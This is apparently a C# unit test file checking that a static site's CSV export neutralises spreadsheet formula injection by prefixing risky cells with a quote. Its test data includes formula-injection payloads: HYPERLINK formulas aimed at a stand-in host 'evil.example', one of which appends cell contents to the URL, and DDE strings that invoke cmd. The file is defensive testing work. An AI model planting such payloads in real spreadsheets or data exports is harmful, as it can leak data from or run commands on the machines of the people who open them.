using StaticArchive.OpenData;
using StaticArchive.Tests.Support;
using StaticArchive.Tests.Tables;

namespace StaticArchive.Tests.OpenData;

/// <summary>
/// CSV formula injection (OWASP): a cell that starts with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, tab or CR is
/// read by spreadsheets as a formula, so every CSV the site publishes writes it as text.
/// </summary>
public sealed class CsvInjectionTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"x\")", "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")]
    [InlineData("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"")]
    [InlineData("\t=1+1", "\"'\t=1+1\"")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    public void A_cell_a_spreadsheet_would_run_is_written_as_quoted_text(string cell, string written) =>
        Assert.Equal(written, CsvCell.Encode(cell));

    [Theory]
    [InlineData("临淄区工业和信息化局", "临淄区工业和信息化局")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("说\"明\"", "\"说\"\"明\"\"\"")]
    [InlineData("12", "12")]
    [InlineData("-12", "-12")]
    [InlineData("+3.5", "+3.5")]
    [InlineData("5949.088667", "5949.088667")]
    [InlineData("", "")]
    [InlineData("a=b", "a=b")]
    public void Ordinary_cells_and_plain_numbers_are_unchanged_apart_from_rfc_4180_quoting(string cell, string written) =>
        Assert.Equal(written, CsvCell.Encode(cell));

    [Fact]
    public void An_agency_name_written_as_a_formula_reaches_the_dataset_as_text()
    {
        var site = SiteTest.Build($$$"""
            -- content/site.yml --
            title: 文库
            -- content/linzi-gxj/_agency.yml --
            name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"临淄\")"
            -- content/linzi-gxj/2023/annual-report.md --
            ---
            title: 2023年政府信息公开工作年度报告
            type: annual-report
            date: 2024-01-20
            ---
            {{< table table3 >}}
            -- content/linzi-gxj/2023/annual-report.yml --
            {{{TestReports.Yaml()}}}
            """).AssertSucceeded();

        foreach (var path in new[] { "output/data/figures-2023.csv", "output/linzi-gxj/figures.csv" })
        {
            var csv = site.Read(path);
            Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"临淄\"\")\"", csv, StringComparison.Ordinal);
            var cells = TestCsv.Read(csv).Skip(1).SelectMany(row => row);
            Assert.DoesNotContain(cells, c => c.Length > 0 && "=+@\t\r".Contains(c[0], StringComparison.Ordinal));
        }
    }
}
